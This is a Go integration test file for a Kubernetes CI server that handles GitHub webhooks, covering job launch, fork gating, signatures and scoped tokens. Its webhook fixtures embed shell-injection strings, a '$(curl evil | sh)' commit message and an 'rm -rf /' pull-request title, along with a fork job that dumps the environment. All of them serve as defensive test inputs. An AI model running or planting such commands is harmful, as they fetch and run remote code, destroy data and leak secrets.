package server

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"

	"github.com/yaci-ci/yaci/internal/github"
	"github.com/yaci-ci/yaci/internal/githubtest"
	"github.com/yaci-ci/yaci/internal/launch"
	"github.com/yaci-ci/yaci/internal/logs"
	"github.com/yaci-ci/yaci/internal/metrics"
	"github.com/yaci-ci/yaci/internal/testenv"
	"github.com/yaci-ci/yaci/internal/webhook"
)

func TestMain(m *testing.M) { testenv.Main(m) }

const (
	owner    = "octo"
	repoName = "app"
	secret   = "webhook-secret-for-tests"
	apiToken = "ghp_test_token"
	twoJobs  = "jobs:\n" +
		"  - name: test\n    image: golang:1.26\n    run: go test ./...\n" +
		"  - name: lint\n    image: golang:1.26\n    run: go vet ./...\n"
	publicBase = "https://ci.example.com"
)

// env is one yaci server on the real control plane, talking to a fake
// GitHub, as a test sees it.
type env struct {
	gh   *githubtest.Server
	kube kubernetes.Interface
	ns   string
	url  string
}

// fastRetry keeps tests that make GitHub fail from waiting long.
var fastRetry = github.RetryPolicy{
	MaxAttempts: 2, InitialInterval: 10 * time.Millisecond, MaxInterval: 50 * time.Millisecond,
}

// runsOnly selects yaci's Jobs.
var runsOnly = metav1.ListOptions{LabelSelector: launch.Selector}

// newEnv starts a server that authenticates to GitHub with a token;
// change, if given, adjusts its Config first.
func newEnv(t testing.TB, change ...func(*Config)) *env {
	t.Helper()
	fake := githubtest.NewServer(t)
	fake.SetToken(apiToken)

	return startEnv(t, fake, github.Options{Token: github.Secret(apiToken)}, change...)
}

// newAppEnv starts a server that authenticates as the GitHub App appID,
// with a key the fake GitHub checks its JWTs against.
func newAppEnv(t testing.TB, appID int64, change ...func(*Config)) *env {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	fake := githubtest.NewServer(t)
	fake.SetAppKey(appID, &key.PublicKey)
	pemKey := pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)})

	return startEnv(t, fake, github.Options{AppID: appID, AppKey: github.Secret(pemKey)}, change...)
}

// startEnv starts a server on a new namespace, talking to fake with the
// credentials in gopts.
func startEnv(t testing.TB, fake *githubtest.Server, gopts github.Options, change ...func(*Config)) *env {
	t.Helper()
	rc, ns := testenv.Namespace(t)
	kube := kubernetes.NewForConfigOrDie(rc)
	m := metrics.New()
	gopts.BaseURL, gopts.Observe, gopts.Retry = fake.URL, m.ObserveGitHub, fastRetry
	client, err := github.New(gopts)
	if err != nil {
		t.Fatal(err)
	}

	cfg := Config{
		WebhookSecret: []byte(secret),
		GitHub:        client,
		Kube:          kube,
		Launch:        launch.Options{Namespace: ns},
		PublicURL:     publicBase,
		Signer:        testSigner(t),
		Store:         testStore(t),
		Metrics:       m,
		Logger:        slog.New(slog.NewTextHandler(io.Discard, nil)),
	}
	for _, c := range change {
		c(&cfg)
	}
	srv, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- srv.Run(ctx) }()
	hs := httptest.NewServer(srv)
	t.Cleanup(func() {
		hs.Close()
		cancel()
		if err := <-done; err != nil {
			t.Errorf("server run: %v", err)
		}
	})

	return &env{gh: fake, kube: kube, ns: ns, url: hs.URL}
}

func testSigner(t testing.TB) *logs.Signer {
	t.Helper()
	s, err := logs.NewSigner([]byte(strings.Repeat("k", 32)))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func testStore(t testing.TB) logs.Store {
	t.Helper()
	s, err := logs.NewDirStore(t.TempDir(), 0)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// sha makes a commit id that differs per test and label.
func sha(t *testing.T, label string) string {
	sum := sha1.Sum([]byte(t.Name() + "/" + label))
	return hex.EncodeToString(sum[:])
}

type repoJSON struct {
	Name     string            `json:"name"`
	FullName string            `json:"full_name"`
	Owner    map[string]string `json:"owner"`
	CloneURL string            `json:"clone_url"`
	Private  bool              `json:"private"`
}

func repo(ownerLogin, name string) repoJSON {
	return repoJSON{
		Name: name, FullName: ownerLogin + "/" + name,
		Owner:    map[string]string{"login": ownerLogin},
		CloneURL: "https://github.com/" + ownerLogin + "/" + name + ".git",
	}
}

func pushPayload(branch, after string) []byte {
	body, _ := json.Marshal(map[string]any{
		"ref": "refs/heads/" + branch, "before": strings.Repeat("1", 40), "after": after,
		"repository":  repo(owner, repoName),
		"head_commit": map[string]any{"id": after, "message": "fix: $(curl evil | sh)"},
		"sender":      map[string]string{"login": "mona"},
	})
	return body
}

func prPayload(action string, number int, head repoJSON, headSHA, assoc string) []byte {
	body, _ := json.Marshal(map[string]any{
		"action": action, "number": number,
		"pull_request": map[string]any{
			"number": number, "title": "Add `thing`; rm -rf /",
			"user":               map[string]string{"login": "contributor"},
			"author_association": assoc,
			"head":               map[string]any{"sha": headSHA, "ref": "feature", "repo": head},
			"base":               map[string]any{"sha": strings.Repeat("2", 40), "ref": "main", "repo": repo(owner, repoName)},
		},
		"repository": repo(owner, repoName),
		"sender":     map[string]string{"login": "contributor"},
	})
	return body
}

func (e *env) deliver(t testing.TB, event, delivery string, body []byte) *http.Response {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, e.url+"/webhook", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-GitHub-Event", event)
	req.Header.Set("X-GitHub-Delivery", delivery)
	req.Header.Set("X-Hub-Signature-256", webhook.Sign([]byte(secret), body))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	return resp
}

// waitFor waits until cond holds, failing the test after a minute.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func (e *env) jobs(t *testing.T) []batchv1.Job {
	t.Helper()
	list, err := e.kube.BatchV1().Jobs(e.ns).List(context.Background(), runsOnly)
	if err != nil {
		t.Fatal(err)
	}

	return list.Items
}

func TestPushStartsJobsAndPostsPending(t *testing.T) {
	e := newEnv(t)
	head := sha(t, "head")
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))

	if resp := e.deliver(t, "push", "d-1", pushPayload("main", head)); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("delivery answered %d, want 202", resp.StatusCode)
	}
	waitFor(t, "two pending statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) == 2 })

	jobs := e.jobs(t)
	if len(jobs) != 2 {
		t.Fatalf("%d jobs, want 2", len(jobs))
	}
	for _, j := range jobs {
		info, err := launch.RunFromJob(&j)
		if err != nil {
			t.Fatalf("job %s: %v", j.Name, err)
		}
		if info.SHA != head || info.Delivery != "d-1" || info.Repo.FullName() != owner+"/"+repoName {
			t.Errorf("job %s records %+v", j.Name, info)
		}
		secret, err := e.kube.CoreV1().Secrets(e.ns).Get(context.Background(), j.Name+"-clone", metav1.GetOptions{})
		if err != nil {
			t.Errorf("clone secret of %s: %v", j.Name, err)
		} else if len(secret.OwnerReferences) != 1 || secret.OwnerReferences[0].UID != j.UID {
			t.Errorf("clone secret of %s not owned by its job: %+v", j.Name, secret.OwnerReferences)
		}
		if bytes.Contains(mustJSON(t, j), []byte(apiToken)) {
			t.Errorf("job %s spec contains the token", j.Name)
		}
	}
	for _, ctx := range []string{"yaci/push/test", "yaci/push/lint"} {
		if n := e.gh.StatusCount(owner, repoName, head, ctx, "pending"); n != 1 {
			t.Errorf("%s: %d pending statuses, want 1", ctx, n)
		}
	}
	for _, st := range e.gh.Statuses(owner, repoName, head) {
		if !strings.HasPrefix(st.TargetURL, publicBase+"/runs/yaci-") {
			t.Errorf("status %s links to %q", st.Context, st.TargetURL)
		}
	}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestConcurrentDeliveriesMakeOneJobPerJob sends one push 100 times at
// once: half as redeliveries (same GUID), half as distinct deliveries.
func TestConcurrentDeliveriesMakeOneJobPerJob(t *testing.T) {
	e := newEnv(t)
	head := sha(t, "head")
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))
	body := pushPayload("main", head)

	var wg sync.WaitGroup
	codes := make(chan int, 100)
	for i := range 100 {
		delivery := "same-guid"
		if i%2 == 1 {
			delivery = fmt.Sprintf("guid-%d", i)
		}
		wg.Go(func() { codes <- e.deliver(t, "push", delivery, body).StatusCode })
	}
	wg.Wait()
	close(codes)
	for c := range codes {
		if c != http.StatusAccepted && c != http.StatusOK {
			t.Errorf("a delivery answered %d", c)
		}
	}

	waitFor(t, "pending statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) >= 2 })
	// Let the 51 accepted deliveries all be handled before counting.
	waitFor(t, "every delivery handled", func() bool { return e.gh.Calls(githubtest.EndpointGetContent) >= 51 })
	time.Sleep(500 * time.Millisecond)

	if jobs := e.jobs(t); len(jobs) != 2 {
		t.Errorf("%d jobs, want exactly 2", len(jobs))
	}
	for _, ctx := range []string{"yaci/push/test", "yaci/push/lint"} {
		if n := e.gh.StatusCount(owner, repoName, head, ctx, "pending"); n != 1 {
			t.Errorf("%s: %d pending statuses, want 1", ctx, n)
		}
	}
}

func TestForkPullRequests(t *testing.T) {
	tests := []struct {
		name, assoc string
		wantJobs    int
		wantDesc    string
	}{
		{"collaborator runs", "COLLABORATOR", 2, "queued"},
		{"stranger waits", "NONE", 0, "waiting for a collaborator to approve this commit"},
		{"first-time contributor waits", "FIRST_TIME_CONTRIBUTOR", 0, "waiting for a collaborator to approve this commit"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t)
			head := sha(t, "head")
			// The fork's head asks to run something else; only the base
			// branch's config may decide for an untrusted author.
			e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte("jobs:\n  - name: evil\n    image: x\n    run: env\n"))
			e.gh.SetFile(owner, repoName, "main", ".yaci.yml", []byte(twoJobs))
			if tt.wantJobs > 0 {
				e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))
			}

			resp := e.deliver(t, "pull_request", "pr-1", prPayload("opened", 7, repo("stranger", repoName), head, tt.assoc))
			if resp.StatusCode != http.StatusAccepted {
				t.Fatalf("delivery answered %d", resp.StatusCode)
			}
			waitFor(t, "statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) == 2 })

			if got := len(e.jobs(t)); got != tt.wantJobs {
				t.Errorf("%d jobs, want %d", got, tt.wantJobs)
			}
			for _, st := range e.gh.Statuses(owner, repoName, head) {
				// A queued run may also say how many go before it.
				if st.State != "pending" || !strings.HasPrefix(st.Description, tt.wantDesc) ||
					!strings.HasPrefix(st.Context, "yaci/pr/") {
					t.Errorf("status %+v, want pending %q on yaci/pr/*", st, tt.wantDesc)
				}
			}
		})
	}
}

func TestConfigProblems(t *testing.T) {
	e := newEnv(t)
	bad, none, huge := sha(t, "bad"), sha(t, "none"), sha(t, "huge")
	e.gh.SetFile(owner, repoName, bad, ".yaci.yml", []byte("jobs:\n  - name: test\n    imgae: golang\n    run: x\n"))
	e.gh.SetFile(owner, repoName, huge, ".yaci.yml", []byte("#"+strings.Repeat("x", 70<<10)+"\n"))

	e.deliver(t, "push", "bad-1", pushPayload("main", bad))
	e.deliver(t, "push", "none-1", pushPayload("main", none))
	e.deliver(t, "push", "huge-1", pushPayload("main", huge))
	waitFor(t, "the config error", func() bool { return len(e.gh.Statuses(owner, repoName, bad)) == 1 })
	waitFor(t, "the size error", func() bool { return len(e.gh.Statuses(owner, repoName, huge)) == 1 })
	waitFor(t, "all reads", func() bool { return e.gh.Calls(githubtest.EndpointGetContent) >= 3 })

	if st := e.gh.Statuses(owner, repoName, huge)[0]; st.State != "error" || st.Context != "yaci/config" ||
		st.Description != ".yaci.yml: file is larger than 64 KiB" {
		t.Errorf("oversized config status = %+v", st)
	}

	st := e.gh.Statuses(owner, repoName, bad)[0]
	if st.State != "error" || st.Context != "yaci/config" || !strings.Contains(st.Description, ".yaci.yml:2:5") ||
		!strings.Contains(st.Description, "(+1 more)") {
		t.Errorf("config error status = %+v", st)
	}
	if got := e.gh.Statuses(owner, repoName, none); len(got) != 0 {
		t.Errorf("a repository without config got statuses %+v", got)
	}
	if got := len(e.jobs(t)); got != 0 {
		t.Errorf("%d jobs, want none", got)
	}
}

func TestBadSignatureDoesNothing(t *testing.T) {
	e := newEnv(t)
	head := sha(t, "head")
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))
	body := pushPayload("main", head)

	req, _ := http.NewRequest(http.MethodPost, e.url+"/webhook", bytes.NewReader(body))
	req.Header.Set("X-GitHub-Event", "push")
	req.Header.Set("X-GitHub-Delivery", "forged")
	req.Header.Set("X-Hub-Signature-256", webhook.Sign([]byte("wrong secret"), body))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("forged delivery answered %d, want 401", resp.StatusCode)
	}

	// A good delivery after it proves the server was working all along.
	e.deliver(t, "push", "real", pushPayload("main", sha(t, "other")))
	waitFor(t, "the real delivery's read", func() bool { return e.gh.Calls(githubtest.EndpointGetContent) == 1 })
	if n := len(e.gh.Statuses(owner, repoName, head)); n != 0 {
		t.Errorf("forged delivery caused %d statuses", n)
	}
}

func TestHealthEndpoints(t *testing.T) {
	e := newEnv(t)
	resp, err := http.Get(e.url + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("/healthz answered %d", resp.StatusCode)
	}

	// Ready once the watcher's caches have synced, which takes a moment.
	waitFor(t, "/readyz to answer 200", func() bool {
		resp, err := http.Get(e.url + "/readyz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
}

// TestRunToFinalStatusAndPage follows one push all the way: Jobs run
// through the Job controller and kwok, the watcher posts success and
// failure with signed links, and each link serves the run's archived log.
func TestRunToFinalStatusAndPage(t *testing.T) {
	e := newEnv(t)
	head := sha(t, "head")
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(
		"jobs:\n  - name: good\n    image: golang:1.26\n    run: echo all good\n"+
			"  - name: bad\n    image: "+testenv.FailImage+"\n    run: exit 1\n"))

	e.deliver(t, "push", "full-1", pushPayload("main", head))
	final := func(ctx string) *githubtest.RecordedStatus {
		for _, st := range e.gh.Statuses(owner, repoName, head) {
			if st.Context == ctx && st.State != "pending" {
				return &st
			}
		}
		return nil
	}
	waitFor(t, "both final statuses", func() bool {
		return final("yaci/push/good") != nil && final("yaci/push/bad") != nil
	})

	tests := []struct{ ctx, state, logLine string }{
		{"yaci/push/good", "success", "+ echo all good"},
		{"yaci/push/bad", "failure", "+ exit 1"},
	}
	for _, tt := range tests {
		st := final(tt.ctx)
		if st.State != tt.state {
			t.Errorf("%s ended %s (%q), want %s", tt.ctx, st.State, st.Description, tt.state)
		}
		if n := e.gh.StatusCount(owner, repoName, head, tt.ctx, tt.state); n != 1 {
			t.Errorf("%s: %d %s statuses, want exactly 1", tt.ctx, n, tt.state)
		}
		page := strings.Replace(st.TargetURL, publicBase, e.url, 1)
		if !strings.Contains(page, "?t=") {
			t.Errorf("%s links to %q, want a signed link", tt.ctx, st.TargetURL)
		}
		resp, err := http.Get(page)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || !strings.Contains(string(body), tt.logLine) {
			t.Errorf("%s page: %d, want 200 with %q", tt.ctx, resp.StatusCode, tt.logLine)
		}

		unsigned, _ := http.Get(strings.SplitN(page, "?", 2)[0])
		if unsigned != nil {
			unsigned.Body.Close()
			if unsigned.StatusCode != http.StatusNotFound {
				t.Errorf("%s page without its token answered %d, want 404", tt.ctx, unsigned.StatusCode)
			}
		}
	}

	// The same story, as /metrics tells it.
	resp, err := http.Get(e.url + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	scrape, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, line := range []string{
		`yaci_webhook_deliveries_total{event="push",outcome="queued"} 1`,
		`yaci_runs_started_total 2`,
		`yaci_runs_admitted_total 2`,
		`yaci_runs_finished_total{result="success"} 1`,
		`yaci_runs_finished_total{result="failure"} 1`,
		`yaci_github_requests_total{code="201",operation="repos/create-commit-status"} 4`,
		`yaci_leader 1`,
		`yaci_queue_depth 0`,
	} {
		if !strings.Contains(string(scrape), line+"\n") {
			t.Errorf("/metrics lacks %q", line)
		}
	}
}

// TestAppAuthClonesWithScopedToken runs a push as a GitHub App would
// deliver it: the installation id comes from the payload, and the clone
// Secret holds a token scoped to that one repository, read-only.
func TestAppAuthClonesWithScopedToken(t *testing.T) {
	const installation = 77
	e := newAppEnv(t, 4242)
	head := sha(t, "head")
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(twoJobs))

	e.deliver(t, "push", "app-1", pushAsApp(t, "main", head, installation))
	waitFor(t, "pending statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) == 2 })

	scoped := scopedTokens(e.gh)
	if len(scoped) != 1 {
		t.Fatalf("issued clone tokens %+v, want one scoped token for the push", e.gh.IssuedTokens())
	}
	tok := scoped[0]
	if tok.InstallationID != installation || tok.Repositories[0] != repoName ||
		tok.Permissions["contents"] != "read" || len(tok.Permissions) != 1 {
		t.Errorf("clone token %+v, want installation %d, repository %s, contents:read only",
			tok, installation, repoName)
	}
	for _, j := range e.jobs(t) {
		if e.cloneToken(t, j.Name) != tok.Token {
			t.Errorf("clone secret of %s does not hold the scoped token", j.Name)
		}
	}
}

// pushAsApp is a push payload as a GitHub App receives it, naming its
// installation.
func pushAsApp(t *testing.T, branch, head string, installation int64) []byte {
	t.Helper()
	var payload map[string]any
	if err := json.Unmarshal(pushPayload(branch, head), &payload); err != nil {
		t.Fatal(err)
	}
	payload["installation"] = map[string]any{"id": installation}

	return mustJSON(t, payload)
}

// scopedTokens are the installation tokens fake issued for one repository,
// which is what clone tokens are, in the order it issued them.
func scopedTokens(fake *githubtest.Server) []githubtest.IssuedToken {
	var scoped []githubtest.IssuedToken
	for _, tok := range fake.IssuedTokens() {
		if len(tok.Repositories) > 0 {
			scoped = append(scoped, tok)
		}
	}

	return scoped
}

// cloneToken is the token in the clone Secret of the run called name.
func (e *env) cloneToken(t *testing.T, name string) string {
	t.Helper()
	s, err := e.kube.CoreV1().Secrets(e.ns).Get(context.Background(), name+"-clone", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}

	return string(s.Data[launch.SecretTokenKey])
}

// TestParallelKeyLimitsRuns checks that a repository's "parallel: 1"
// keeps its runs one at a time, though the server would allow five.
func TestParallelKeyLimitsRuns(t *testing.T) {
	e := newEnv(t)
	head := sha(t, "head")
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte("parallel: 1\njobs:\n"+
		"  - name: one\n    image: golang:1.26\n    run: echo one\n    env: {KWOK_RUN_FOR: 2s}\n"+
		"  - name: two\n    image: golang:1.26\n    run: echo two\n    env: {KWOK_RUN_FOR: 2s}\n"))

	w, err := e.kube.BatchV1().Jobs(e.ns).Watch(context.Background(), runsOnly)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Stop()
	e.deliver(t, "push", "par-1", pushPayload("main", head))

	running := map[string]bool{}
	most, finished := 0, 0
	timeout := time.After(time.Minute)
	for finished < 2 {
		select {
		case ev := <-w.ResultChan():
			job, ok := ev.Object.(*batchv1.Job)
			if !ok {
				continue
			}
			done := false
			for _, c := range job.Status.Conditions {
				done = done || (c.Type == batchv1.JobComplete || c.Type == batchv1.JobFailed) && c.Status == "True"
			}
			was := running[job.Name]
			running[job.Name] = job.Spec.Suspend != nil && !*job.Spec.Suspend && !done
			if was && done {
				finished++
			}
			n := 0
			for _, r := range running {
				if r {
					n++
				}
			}
			most = max(most, n)
		case <-timeout:
			t.Fatalf("runs did not both finish within a minute (%d did)", finished)
		}
	}
	if most != 1 {
		t.Errorf("%d runs of the repository ran at once, want 1", most)
	}
}

// TestQueuedStatusSaysHowManyAhead runs three jobs one at a time: the last
// one's pending status says how many go before it.
func TestQueuedStatusSaysHowManyAhead(t *testing.T) {
	e := newEnv(t, func(c *Config) { c.MaxRunning = 1 })
	head := sha(t, "head")
	job := func(name string) string {
		return "  - name: " + name + "\n    image: golang:1.26\n    run: echo\n    env: {KWOK_RUN_FOR: 3s}\n"
	}
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte("jobs:\n"+job("one")+job("two")+job("three")))
	e.deliver(t, "push", "ahead-1", pushPayload("main", head))
	waitFor(t, "three pending statuses", func() bool { return len(e.gh.Statuses(owner, repoName, head)) == 3 })

	var third string
	for _, st := range e.gh.Statuses(owner, repoName, head) {
		if st.Context == "yaci/push/three" {
			third = st.Description
		}
	}
	// "one" runs for 3 s and the limit is 1, so "two" still waits when
	// "three" is launched.
	if !regexp.MustCompile(`^queued, [12] ahead$`).MatchString(third) {
		t.Errorf("third run's status says %q, want queued, 1 or 2 ahead", third)
	}
}

// TestQueuedRunGetsFreshToken checks that a run started after a wait gets
// a clone token minted at its start, not the one from its launch, which
// could have expired in the queue.
func TestQueuedRunGetsFreshToken(t *testing.T) {
	const installation = 78
	// No token lives two hours, so each start renews it, and the
	// renewal cannot take the launch's token from the cache.
	e := newAppEnv(t, 4243, func(c *Config) { c.TokenMinLeft = 2 * time.Hour })
	head := sha(t, "head")
	e.gh.SetFile(owner, repoName, head, ".yaci.yml", []byte(
		"jobs:\n  - name: one\n    image: golang:1.26\n    run: echo\n    env: {KWOK_RUN_FOR: 30s}\n"))

	e.deliver(t, "push", "fresh-1", pushAsApp(t, "main", head, installation))
	waitFor(t, "the run to start", func() bool {
		jobs := e.jobs(t)
		return len(jobs) == 1 && jobs[0].Spec.Suspend != nil && !*jobs[0].Spec.Suspend
	})
	scoped := scopedTokens(e.gh)
	if len(scoped) != 2 {
		t.Fatalf("%d scoped clone tokens issued, want 2: one at launch, one at the start", len(scoped))
	}
	if got := e.cloneToken(t, e.jobs(t)[0].Name); got != scoped[1].Token || got == scoped[0].Token {
		t.Error("the started run's Secret does not hold the token minted at its start")
	}
}

// TestAppAuthCallsPerRun counts the GitHub calls of N pushes of a one-job
// config to one repository, delivered at once. Each run costs three: its
// config read, its pending status and its final status. The tokens come
// once for all of them: the installation token the App acts with, and one
// clone token, which every run's Secret gets.
func TestAppAuthCallsPerRun(t *testing.T) {
	const installation, n = 79, 5
	e := newAppEnv(t, 4244)
	config := []byte("jobs:\n  - name: test\n    image: golang:1.26\n    run: echo ok\n")
	heads := make([]string, n)
	for i := range heads {
		heads[i] = sha(t, fmt.Sprint(i))
		e.gh.SetFile(owner, repoName, heads[i], ".yaci.yml", config)
	}

	// One branch each, so that no push supersedes another's run.
	for i, head := range heads {
		e.deliver(t, "push", fmt.Sprintf("calls-%d", i), pushAsApp(t, fmt.Sprintf("b%d", i), head, installation))
	}
	waitFor(t, "every run's success", func() bool {
		for _, head := range heads {
			if e.gh.StatusCount(owner, repoName, head, "yaci/push/test", "success") != 1 {
				return false
			}
		}
		return true
	})
	// Anything that still comes after the last status is a call too many.
	time.Sleep(time.Second)

	calls := map[string]int{}
	total := 0
	for _, ep := range []string{githubtest.EndpointGetContent, githubtest.EndpointCreateCommitStatus,
		githubtest.EndpointCreateInstallationToken, githubtest.EndpointUnknown} {
		calls[ep] = e.gh.Calls(ep)
		total += calls[ep]
	}
	t.Logf("%d runs: %v, %d calls in all", n, calls, total)
	want := map[string]int{
		githubtest.EndpointGetContent:              n,
		githubtest.EndpointCreateCommitStatus:      2 * n,
		githubtest.EndpointCreateInstallationToken: 2,
		githubtest.EndpointUnknown:                 0,
	}
	for ep, w := range want {
		if calls[ep] != w {
			t.Errorf("%s: %d calls, want %d", ep, calls[ep], w)
		}
	}
	if total != 3*n+2 || e.gh.RateUsed() != total {
		t.Errorf("%d calls in all (%d against the rate limit), want %d", total, e.gh.RateUsed(), 3*n+2)
	}

	scoped := scopedTokens(e.gh)
	if len(scoped) != 1 || len(e.gh.IssuedTokens()) != 2 {
		t.Fatalf("issued %d tokens, %d of them clone tokens; want one of each", len(e.gh.IssuedTokens()), len(scoped))
	}
	jobs := e.jobs(t)
	if len(jobs) != n {
		t.Errorf("%d jobs, want %d", len(jobs), n)
	}
	for _, j := range jobs {
		s, err := e.kube.CoreV1().Secrets(e.ns).Get(context.Background(), j.Name+"-clone", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if string(s.Data[launch.SecretTokenKey]) != scoped[0].Token {
			t.Errorf("clone secret of %s does not hold the one clone token", j.Name)
		}
		if got, want := s.Annotations[launch.AnnotationTokenExpires], scoped[0].ExpiresAt.UTC().Format(time.RFC3339); got != want {
			t.Errorf("clone secret of %s says its token expires at %q, want %q", j.Name, got, want)
		}
	}
}
